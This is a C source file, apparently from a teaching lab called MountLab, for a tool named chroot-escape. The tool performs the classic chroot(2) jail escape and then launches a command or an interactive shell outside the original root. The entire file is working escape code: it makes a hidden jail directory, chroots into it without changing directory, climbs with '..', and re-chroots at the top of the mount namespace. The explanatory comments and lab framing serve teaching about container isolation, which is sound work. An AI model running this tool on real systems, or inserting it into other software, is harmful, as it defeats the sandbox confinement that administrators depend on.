/* chroot-escape: the classic escape from chroot(2), for the learner to run in the lab.
 *
 *   chroot-escape [COMMAND [ARG...]]      (no command: an interactive shell)
 *
 * chroot(2) changes only the directory at which absolute paths and ".." stop; it does
 * not change the working directory. So a process with CAP_SYS_CHROOT that chroots into
 * a subdirectory while its working directory stays outside it can climb with chdir("..")
 * past the new root: ".." stops only at its root (which it is no longer under) or at the
 * root of its mount namespace. chroot(".") there makes that its root, and COMMAND runs
 * with it. chroot(1) cannot do this: it changes into the new root first, which is why
 * `mkdir x; chroot x; cd ..` in a shell stays inside.
 *
 * After pivot_root(2) and unmounting the old root, the root of the mount namespace is
 * the container's own: the climb stops where it started, and so does this program.
 *
 * Each system call is printed to stderr as strace would show it. Static, so it runs in
 * any root of the lab. Written for MountLab; the lab installs it in /usr/local/bin. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char* jail = "/.chroot-escape";

static int fail(const char* call)
{
    int e = errno;
    fprintf(stderr, "chroot-escape: %s = -1 %s (%s)\n", call, strerrorname_np(e) ? strerrorname_np(e) : "?",
            strerror(e));
    if (e == EPERM)
        fprintf(stderr,
                "chroot-escape: chroot(2) needs CAP_SYS_CHROOT in the user namespace that owns this mount namespace\n");
    return 125;
}

int main(int argc, char** argv)
{
    if (argc > 1 && (strcmp(argv[1], "--help") == 0 || strcmp(argv[1], "-h") == 0)) {
        printf("usage: chroot-escape [COMMAND [ARG...]]\n"
               "Leaves a chroot(2) the classic way (chroot into a subdirectory without chdir, climb\n"
               "with \"..\", chroot(\".\")) and runs COMMAND (default: a shell) where the climb stopped.\n");
        return 0;
    }
    struct stat start;
    if (stat("/", &start) != 0)
        return fail("stat(\"/\")");
    /* From the root: a working directory inside an old jail would stop the climb there. */
    if (chdir("/") != 0)
        return fail("chdir(\"/\")");

    if (mkdir(jail, 0700) == 0)
        fprintf(stderr, "chroot-escape: mkdir(\"%s\", 0700) = 0\n", jail);
    else if (errno == EROFS || errno == EACCES) {
        /* A read-only root: a jail in /tmp does as well. */
        jail = "/tmp/.chroot-escape";
        if (mkdir(jail, 0700) == 0)
            fprintf(stderr, "chroot-escape: mkdir(\"%s\", 0700) = 0\n", jail);
        else if (errno != EEXIST)
            return fail("mkdir(\"/tmp/.chroot-escape\", 0700)");
    } else if (errno != EEXIST)
        return fail("mkdir(\"/.chroot-escape\", 0700)");
    if (chroot(jail) != 0)
        return fail("chroot(jail)");
    fprintf(stderr, "chroot-escape: chroot(\"%s\") = 0   (the working directory stays outside the new root)\n", jail);

    /* Climb until ".." no longer moves: the top of this mount namespace. */
    int climbs = 0;
    struct stat here, up;
    if (stat(".", &here) != 0)
        return fail("stat(\".\")");
    for (; climbs < 4096; ++climbs) {
        if (chdir("..") != 0)
            return fail("chdir(\"..\")");
        if (stat(".", &up) != 0)
            return fail("stat(\".\")");
        if (up.st_dev == here.st_dev && up.st_ino == here.st_ino)
            break;
        here = up;
    }
    fprintf(stderr, "chroot-escape: chdir(\"..\") = 0: climbed %d levels, until \"..\" stopped moving\n", climbs);
    if (chroot(".") != 0)
        return fail("chroot(\".\")");
    fprintf(stderr, "chroot-escape: chroot(\".\") = 0\n");
    if (chdir("/") != 0)
        return fail("chdir(\"/\")");

    if (here.st_dev == start.st_dev && here.st_ino == start.st_ino)
        fprintf(
            stderr,
            "chroot-escape: the climb stopped at the root it started from: nothing of this mount namespace lies above it (no escape)\n");
    else
        fprintf(
            stderr,
            "chroot-escape: the root is now the top of this mount namespace, above the one this process had: escaped\n");

    if (argc > 1) {
        execvp(argv[1], argv + 1);
        fprintf(stderr, "chroot-escape: %s: %s\n", argv[1], strerror(errno));
        return errno == ENOENT ? 127 : 126;
    }
    const char* shell = getenv("SHELL");
    if (!shell || access(shell, X_OK) != 0)
        shell = access("/bin/bash", X_OK) == 0 ? "/bin/bash" : "/bin/sh";
    execl(shell, shell, "-i", (char*)NULL);
    fprintf(stderr, "chroot-escape: %s: %s\n", shell, strerror(errno));
    return 127;
}
